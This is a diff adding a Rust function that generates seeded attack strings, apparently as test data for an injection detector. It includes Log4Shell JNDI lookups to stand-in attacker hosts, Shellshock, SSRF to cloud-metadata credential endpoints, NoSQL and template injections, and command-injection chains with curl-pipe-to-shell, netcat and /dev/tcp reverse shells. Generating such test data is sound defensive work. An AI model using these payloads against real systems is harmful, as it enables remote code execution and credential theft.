@@ -1080,6 +1080,80 @@ pub fn benign_values(seed: u64, count: usize) -> Vec<String> {
     (0..count).map(|_| g.value()).collect()
 }
 
+/// `count` attack values of families the shared data sets predate or barely cover
+/// (Log4Shell lookups and their obfuscations, Shellshock, cloud-metadata SSRF, NoSQL
+/// operators, prototype pollution, template-engine expressions, modern command-injection
+/// chains), assembled from the fragments below with the seeded RNG.
+pub fn attack_values(seed: u64, count: usize) -> Vec<String> {
+    let mut g = G {
+        rng: ChaCha8Rng::seed_from_u64(seed ^ 0xa77a_c4ed),
+    };
+    let host = |g: &mut G| {
+        format!(
+            "{}.{}",
+            g.chars(b"abcdefghijklmnopqrstuvwxyz0123456789", 6),
+            g.pick(&[
+                "oast.fun",
+                "interact.sh",
+                "attacker.example",
+                "evil.example",
+                "198.51.100.7:1389",
+                "burpcollaborator.net"
+            ])
+        )
+    };
+    (0..count)
+        .map(|_| match g.n(0, 7) {
+            0 => {
+                let proto = g.pick(&["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"]);
+                let h = host(&mut g);
+                let jndi = g.pick(&["jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di", "${upper:j}${upper:n}di", "${env:NaN:-j}ndi"]);
+                let lead = g.pick(&["", "x", "User ", "test-", "${date:yyyy}"]);
+                format!("{lead}${{{jndi}:{proto}://{h}/{}}}", g.pick(&["a", "Exploit", "${env:USER}", "${sys:java.version}", "o=tomcat"]))
+            }
+            1 => format!(
+                "() {{ {}; }}; {}",
+                g.pick(&[":", "_", ":;"]),
+                g.pick(&["/bin/bash -c 'id'", "echo; /bin/cat /etc/passwd", "/usr/bin/wget http://198.51.100.23/s -O /tmp/s", "ping -c 3 198.51.100.9"])
+            ),
+            2 => format!(
+                "http://{}{}",
+                g.pick(&["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "100.100.100.200", "0x7f000001", "2130706433", "127.1", "localhost:6379"]),
+                g.pick(&["/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/instance/service-accounts/default/token", "/latest/user-data", "/", "/admin", "/_cat/indices"])
+            ),
+            3 => g.pick(&[
+                "{\"$ne\": null}", "{\"$gt\": \"\"}", "{\"$regex\": \".*\"}", "{\"$where\": \"sleep(5000)\"}",
+                "[$ne]=1", "';return true;var x='", "{\"username\": {\"$in\": [\"admin\"]}}", "true, $where: '1 == 1'",
+            ]).to_string(),
+            4 => g.pick(&[
+                "__proto__[isAdmin]=true", "{\"__proto__\": {\"admin\": true}}", "constructor[prototype][polluted]=1",
+                "{\"constructor\": {\"prototype\": {\"shell\": \"/bin/sh\"}}}", "__proto__.toString=1",
+            ]).to_string(),
+            5 => g.pick(&[
+                "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+                "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "{% import os %}{{ os.system('whoami') }}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+                "*{T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            ]).to_string(),
+            6 => format!(
+                "{}{}{}",
+                g.pick(&["", "x", "1", "test", "127.0.0.1"]),
+                g.pick(&[";", "|", "||", "&&", "\n", "`", "$("]),
+                g.pick(&[
+                    "curl -s http://198.51.100.4/x.sh | sh", "wget -qO- http://evil.example/a | bash", "nc -e /bin/sh 198.51.100.4 4444",
+                    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "id)", "whoami`",
+                    "cat${IFS}/etc/passwd", "powershell -enc SQBFAFgA", "sleep 10",
+                ])
+            ),
+            _ => format!(
+                "{}{}",
+                g.pick(&["file:///etc/passwd", "gopher://127.0.0.1:6379/_", "dict://127.0.0.1:11211/", "php://filter/convert.base64-encode/resource=", "expect://id", "jar:http://evil.example/x.jar!/"]),
+                g.pick(&["", "index.php", "config", "stats"])
+            ),
+        })
+        .collect()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
